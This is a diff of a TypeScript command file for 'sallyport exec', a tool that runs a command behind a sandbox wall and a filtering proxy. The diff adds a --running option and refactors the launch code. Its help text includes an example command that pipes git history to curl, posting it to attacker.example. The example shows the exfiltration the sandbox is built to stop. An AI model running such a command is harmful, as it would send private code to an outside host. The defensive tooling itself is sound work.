@@ -1,17 +1,18 @@
 // `sallyport exec`: runs one command as a sandbox of a proxy of its own, behind a wall, and says at the end what was refused.
 
 import { randomBytes } from "node:crypto";
-import { mkdirSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
-import { tmpdir, userInfo } from "node:os";
-import { isAbsolute, join, relative } from "node:path";
+import { mkdirSync, realpathSync } from "node:fs";
+import { userInfo } from "node:os";
+import { isAbsolute, join } from "node:path";
 import { type Command, Option } from "commander";
 
 import type { Sallyport } from "../../assemble.ts";
 import type { Config } from "../../config/types.ts";
 import type { Phase } from "../../policy/types.ts";
 import { type Context, globalOptions, note } from "../context.ts";
-import { CliError, type ExitCode } from "../errors.ts";
+import { CliError, EXIT, type ExitCode } from "../errors.ts";
 import { anotherLabel } from "../options.ts";
+import { type ExecProxy, runWithin, SOCKETS } from "../within.ts";
 
 type Options = {
   readonly policy?: string;
@@ -20,6 +21,7 @@ type Options = {
   readonly wall: boolean;
   readonly quiet?: boolean;
   readonly acceptChanges?: boolean;
+  readonly running?: string;
 };
 
 export function addExec(program: Command, context: Context): void {
@@ -37,13 +39,14 @@ export function addExec(program: Command, context: Context): void {
     .option("--no-wall", "only set the environment: a command that ignores it is not held back")
     .option("--quiet", "do not say what was refused")
     .option("--accept-changes", "to the configuration, that were made while an earlier command ran")
+    .option("--running <url>", "by the proxy that runs there and its API, and not by one of its own")
     .addHelpText("after", HELP)
     .action(async (command: string[], options: Options, self: Command) => {
-      context.exitCode = (await run(context, {
-        command,
-        options,
-        config: globalOptions(self).config,
-      })) as ExitCode;
+      const { config } = globalOptions(self);
+      const { running } = options;
+      context.exitCode = (await (running === undefined
+        ? run(context, { command, options, config })
+        : runBy(context, self, { command, options, url: running }))) as ExitCode;
     });
 }
 
@@ -53,14 +56,43 @@ type Run = {
   readonly config: string | undefined;
 };
 
-async function run(context: Context, { command, options, config }: Run): Promise<number> {
+/** As a sandbox of a proxy that runs already. */
+async function runBy(
+  context: Context,
+  self: Command,
+  { command, options, url }: Pick<Run, "command" | "options"> & { readonly url: string },
+): Promise<number> {
+  if (!options.wall)
+    throw new CliError(
+      "--running goes with a wall alone: without one the command can read the token.",
+      EXIT.usage,
+    );
+  await refuseWithoutWall();
+  const { runningProxy } = await import("../running.ts");
+  const { policy = "default", phase, label: labels } = options;
+  const proxy = await runningProxy(context, self, { url, registration: { policy, phase, labels } });
+  const hidden = [stateOf(context), ...SOCKETS];
+  return runWithin(context, { command, wall: true, hidden, secret: [], proxy }, (id) => {
+    if (options.quiet === true) return;
+    note(
+      context,
+      `what was refused is in that proxy's records: sallyport audit tail --verdict deny --sandbox ${id}`,
+    );
+  });
+}
+
+async function refuseWithoutWall(): Promise<void> {
   const { whyNoWall } = await import("../../exec/wall.ts");
-  const why = options.wall ? whyNoWall() : undefined;
+  const why = whyNoWall();
   if (why !== undefined)
     throw new CliError(
       `no wall can be built around the command: ${why}. With --no-wall it runs all the same, held back by nothing but its environment.`,
     );
-  if (!options.wall)
+}
+
+async function run(context: Context, { command, options, config }: Run): Promise<number> {
+  if (options.wall) await refuseWithoutWall();
+  else
     note(
       context,
       "--no-wall: nothing but the environment leads this command through the proxy. It is NOT held back.",
@@ -80,12 +112,18 @@ async function run(context: Context, { command, options, config }: Run): Promise
     cwd: loaded.file === undefined ? state : context.cwd,
     kept,
   });
-  const temporary = realpathSync(mkdtempSync(join(tmpdir(), "sallyport-exec-")));
   try {
-    return await runWithin(context, { command, options, config: loaded.config, sallyport, temporary, state });
+    const hidden = [state, ...hiddenOf(loaded.config), ...SOCKETS];
+    const secret = sallyport.config.secrets.variables;
+    return await runWithin(context, {
+      command,
+      wall: options.wall,
+      hidden,
+      secret,
+      proxy: ownProxy(sallyport, options),
+    });
   } finally {
     await sallyport.stop();
-    rmSync(temporary, { recursive: true, force: true });
     if (options.quiet !== true) await sayRefused(context, join(kept, "audit"));
     if (!trusted.end())
       note(
@@ -95,68 +133,27 @@ async function run(context: Context, { command, options, config }: Run): Promise
   }
 }
 
-type Within = {
-  readonly command: readonly string[];
-  readonly options: Options;
-  /** As the file says it: another proxy may run by it. */
-  readonly config: Config;
-  readonly sallyport: Sallyport;
-  readonly temporary: string;
-  readonly state: string;
-};
-
-async function runWithin(context: Context, within: Within): Promise<number> {
-  const { command, options, config, sallyport, temporary, state } = within;
-  const { openBridge } = await import("../../exec/bridge.ts");
-  const { startUnwalled, startWalled } = await import("../../exec/wall.ts");
-  const { proxyUrlWith, sandboxEnvironment } = await import("../../environment/variables.ts");
-  const { writeSandboxFiles } = await import("../sandbox-files.ts");
-  const { material } = await import("../material.ts");
-  const hidden = [state, ...hiddenOf(config), ...SOCKETS];
-  const covers = hidden.find((path) => !relative(path, context.cwd).startsWith(".."));
-  if (options.wall && covers !== undefined)
-    throw new CliError(
-      `${covers} is hidden from the command, and this directory is in it: run it elsewhere, or move \`certs\`.`,
-    );
-  const port = sallyport.listen[0]?.port ?? 0;
-  const { sandbox, secret } = await sallyport.control.register(actor(), registration(sallyport, options));
-  const inner = options.wall ? INNER_PORT : port;
-  const proxyUrl = proxyUrlWith(`http://127.0.0.1:${inner}`, { id: sandbox.id, secret });
-  const trust = join(temporary, "trust");
-  const files = writeSandboxFiles({ directory: trust, seenAs: trust }, await material(sallyport.config));
-  const env = {
-    ...without(context.env, sallyport.config.secrets),
-    ...sandboxEnvironment({ proxyUrl, files }),
+function ownProxy(sallyport: Sallyport, { policy, phase, label }: Options): ExecProxy {
+  const { config, control } = sallyport;
+  const name = policy ?? config.anonymous ?? "default";
+  return {
+    host: "127.0.0.1",
+    port: sallyport.listen[0]?.port ?? 0,
+    async register({ proxy, trust }) {
+      const { proxyUrlWith, sandboxEnvironment } = await import("../../environment/variables.ts");
+      const { writeSandboxFiles } = await import("../sandbox-files.ts");
+      const { material } = await import("../material.ts");
+      const { sandbox, secret } = await control.register(actor(), {
+        policies: { setup: name, agent: name },
+        phase,
+        labels: label,
+      });
+      const { id } = sandbox;
+      const files = writeSandboxFiles({ directory: trust, seenAs: trust }, await material(config));
+      const environment = sandboxEnvironment({ proxyUrl: proxyUrlWith(proxy, { id, secret }), files });
+      return { id, environment, end: () => control.end(actor(), id, "the command has ended") };
+    },
   };
-  const socket = join(temporary, "proxy.sock");
-  const bridge = await openBridge({ path: socket }, { host: "127.0.0.1", port });
-  const { uid, gid } = userInfo();
-  const started = options.wall
-    ? startWalled(
-        {
-          socket,
-          port: INNER_PORT,
-          uid,
-          gid,
-          hidden,
-          command,
-        },
-        env,
-      )
-    : startUnwalled(command, env);
-  // Of the terminal's signals the command is told by the terminal.
-  const ignore = (): void => {};
-  const pass = (name: NodeJS.Signals): void => started.signal(name);
-  for (const name of ["SIGINT", "SIGQUIT"] as const) process.on(name, ignore);
-  for (const name of ["SIGTERM", "SIGHUP"] as const) process.on(name, pass);
-  try {
-    return await started.ended;
-  } finally {
-    for (const name of ["SIGINT", "SIGQUIT"] as const) process.off(name, ignore);
-    for (const name of ["SIGTERM", "SIGHUP"] as const) process.off(name, pass);
-    await sallyport.control.end(actor(), sandbox.id, "the command has ended");
-    await bridge.close();
-  }
 }
 
 async function loadFor(context: Context, config: string | undefined) {
@@ -193,11 +190,6 @@ async function start(
       log: { level: "error", format: "auto" },
     }),
   });
-}
-
-function registration({ config }: Sallyport, { policy, phase, label }: Options) {
-  const name = policy ?? config.anonymous ?? "default";
-  return { policies: { setup: name, agent: name }, phase, labels: label };
 }
 
 async function sayRefused(context: Context, directory: string): Promise<void> {
@@ -240,37 +232,17 @@ function stateOf({ env }: Context): string {
   return realpathSync(state);
 }
 
-/** Sockets of other programs are no network, and lead out all the same; the proxy's secrets are no sandbox's to hold. */
-function without(env: Context["env"], { variables }: Config["secrets"]): Record<string, string> {
-  const kept = Object.entries(env).filter(
-    (pair): pair is [string, string] =>
-      pair[1] !== undefined && !LEADS_OUT.has(pair[0]) && !variables.includes(pair[0]),
-  );
-  return Object.fromEntries(kept);
-}
-
 function actor() {
   return { name: `cli:${userInfo().username}`, role: "operator", from: "local" } as const;
 }
 
-const SOCKETS = ["/run", "/var/run", "/tmp/.X11-unix"];
-const LEADS_OUT = new Set([
-  "DBUS_SESSION_BUS_ADDRESS",
-  "DISPLAY",
-  "DOCKER_HOST",
-  "SALLYPORT_ADMIN",
-  "SALLYPORT_TOKEN",
-  "SSH_AUTH_SOCK",
-  "WAYLAND_DISPLAY",
-  "XDG_RUNTIME_DIR",
-]);
-const INNER_PORT = 3128;
 const MOST_SHOWN = 20;
 
 const HELP = `
 Examples:
   sallyport exec -- npm test
   sallyport exec --policy setup --phase setup -- npm ci
+  sallyport exec --running http://10.0.0.2:3128 --policy agent -- npm test    (SALLYPORT_ADMIN, SALLYPORT_TOKEN)
   sallyport exec -- sh -c 'git show HEAD | curl -sS -X POST --data-binary @- https://attacker.example/collect'
 
 Exit codes: the command's own; 127 it was not found; 1 there is no wall, or the configuration is not valid`;
